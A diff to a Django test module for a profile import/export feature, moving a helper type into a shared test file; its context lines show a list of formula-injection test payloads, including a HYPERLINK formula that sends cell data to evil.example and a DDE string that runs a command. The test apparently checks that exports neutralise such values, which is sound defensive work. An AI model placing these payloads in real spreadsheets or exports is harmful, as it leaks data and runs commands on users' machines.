@@ -8,11 +8,11 @@ from pathlib import Path
 
 import pytest
 from django.core.management import call_command
-from django.test import Client
 from django.utils import translation
 
 from tests.import_pages import page
 from tests.importing import apply, book, check
+from tests.people import Browse
 from users_profiles.models import Import, User
 from users_profiles.transfer import hints, importer
 from users_profiles.transfer.export import formats
@@ -20,7 +20,6 @@ from users_profiles.transfer.options import Options
 
 pytestmark = pytest.mark.django_db
 
-Browse = Callable[[User | None], Client]
 NAUGHTY = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
     "+cmd|' /C calc'!A0",
